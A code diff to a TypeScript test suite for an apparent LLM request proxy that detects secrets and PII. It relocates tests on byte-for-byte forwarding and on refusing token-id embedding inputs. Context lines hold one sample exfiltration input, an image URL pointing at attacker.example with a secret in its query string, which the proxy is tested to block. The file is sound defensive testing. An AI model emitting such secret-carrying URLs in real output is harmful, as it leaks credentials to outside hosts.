@@ -384,73 +384,6 @@ t.test('input detection beyond message content', async (t) => {
       messages: image(`https://attacker.example/p.png?k=${SECRET}`),
     });
 
-    t.test('a request without findings is still forwarded byte for byte', async (t) => {
-      upstream.requests.length = 0;
-      const body = {
-        model: 'gpt-4o',
-        temperature: 0.2,
-        messages: toolHistory('{"city":"Paris"}'),
-        tools: [tool('look up the weather')],
-      };
-      await openai.chat.completions.create(body);
-      t.equal(lastRaw(), JSON.stringify(body));
-    });
-
-    t.test(
-      'embeddings: token-id inputs cannot be inspected, so they are refused while pii or secrets act',
-      async (t) => {
-        const embed = (input: unknown, headers: Record<string, string> = {}) =>
-          svc.call('/v1/embeddings', {
-            token: svc.agentKey,
-            headers,
-            body: { model: 'text-embedding-3-small', input },
-          });
-        for (const [input, headers] of [
-          [[[101, 202, 303]], {}],
-          [[101, 202, 303], blockSecrets],
-        ] as const) {
-          upstream.requests.length = 0;
-          const res = await embed(input, headers);
-          t.equal(res.status, 200);
-          t.equal(res.body.service.blocked, true, `${JSON.stringify(input)}: blocked`);
-          t.match(res.body.service.reason, /token ids cannot be inspected/);
-          t.equal(upstream.requests.length, 0, 'the provider was not called');
-        }
-        // Strings are still scanned as before.
-        upstream.requests.length = 0;
-        const text = await embed(['plain text']);
-        t.equal(text.body.service.blocked, false);
-        t.equal(upstream.requests.length, 1);
-
-        // With both detectors only flagging, nothing would be blocked or redacted: tokens pass.
-        const policy = await svc.call('/api/v2/policies', { token: svc.pat, body: { name: 'flag-only' } });
-        const id = policy.body.id as string;
-        const draft = await svc.call(`/api/v2/policies/${id}/versions`, {
-          token: svc.pat,
-          body: {
-            rules: {
-              mode: 'enforce',
-              detectors: { pii: { action: 'flag' }, secrets: { action: 'flag' } },
-              rules: [],
-            },
-          },
-        });
-        t.equal(draft.status, 201);
-        await svc.call(`/api/v2/policies/${id}/versions/${draft.body.version_no}/publish`, {
-          token: svc.pat,
-          method: 'POST',
-        });
-        const me = await svc.call('/api/me', { token: svc.pat });
-        await svc.call(`/api/v2/policies/${id}/assignments`, {
-          token: svc.pat,
-          body: { scope_type: 'org', scope_id: me.body.org_id },
-        });
-        upstream.requests.length = 0;
-        const tokens = await embed([[101, 202, 303]]);
-        t.equal(tokens.body.service.blocked, false, JSON.stringify(tokens.body.service));
-        t.equal(upstream.requests.length, 1, 'forwarded');
-      },
-    );
     const service = (res as unknown as { service: { blocked: boolean; reason: string } }).service;
     t.equal(service.blocked, true, 'refused: a URL cannot be redacted and stay the same resource');
     t.match(service.reason, /image_url\.url/);
@@ -463,4 +396,72 @@ t.test('input detection beyond message content', async (t) => {
     t.match(lastRaw(), /images\.example\/cat\.png/, 'an ordinary URL is forwarded');
     upstream.requests.length = 0;
   });
+
+  t.test('a request without findings is still forwarded byte for byte', async (t) => {
+    upstream.requests.length = 0;
+    const body = {
+      model: 'gpt-4o',
+      temperature: 0.2,
+      messages: toolHistory('{"city":"Paris"}'),
+      tools: [tool('look up the weather')],
+    };
+    await openai.chat.completions.create(body);
+    t.equal(lastRaw(), JSON.stringify(body));
+  });
+
+  t.test(
+    'embeddings: token-id inputs cannot be inspected, so they are refused while pii or secrets act',
+    async (t) => {
+      const embed = (input: unknown, headers: Record<string, string> = {}) =>
+        svc.call('/v1/embeddings', {
+          token: svc.agentKey,
+          headers,
+          body: { model: 'text-embedding-3-small', input },
+        });
+      for (const [input, headers] of [
+        [[[101, 202, 303]], {}],
+        [[101, 202, 303], blockSecrets],
+      ] as const) {
+        upstream.requests.length = 0;
+        const res = await embed(input, headers);
+        t.equal(res.status, 200);
+        t.equal(res.body.service.blocked, true, `${JSON.stringify(input)}: blocked`);
+        t.match(res.body.service.reason, /token ids cannot be inspected/);
+        t.equal(upstream.requests.length, 0, 'the provider was not called');
+      }
+      // Strings are still scanned as before.
+      upstream.requests.length = 0;
+      const text = await embed(['plain text']);
+      t.equal(text.body.service.blocked, false);
+      t.equal(upstream.requests.length, 1);
+
+      // With both detectors only flagging, nothing would be blocked or redacted: tokens pass.
+      const policy = await svc.call('/api/v2/policies', { token: svc.pat, body: { name: 'flag-only' } });
+      const id = policy.body.id as string;
+      const draft = await svc.call(`/api/v2/policies/${id}/versions`, {
+        token: svc.pat,
+        body: {
+          rules: {
+            mode: 'enforce',
+            detectors: { pii: { action: 'flag' }, secrets: { action: 'flag' } },
+            rules: [],
+          },
+        },
+      });
+      t.equal(draft.status, 201);
+      await svc.call(`/api/v2/policies/${id}/versions/${draft.body.version_no}/publish`, {
+        token: svc.pat,
+        method: 'POST',
+      });
+      const me = await svc.call('/api/me', { token: svc.pat });
+      await svc.call(`/api/v2/policies/${id}/assignments`, {
+        token: svc.pat,
+        body: { scope_type: 'org', scope_id: me.body.org_id },
+      });
+      upstream.requests.length = 0;
+      const tokens = await embed([[101, 202, 303]]);
+      t.equal(tokens.body.service.blocked, false, JSON.stringify(tokens.body.service));
+      t.equal(upstream.requests.length, 1, 'forwarded');
+    },
+  );
 });
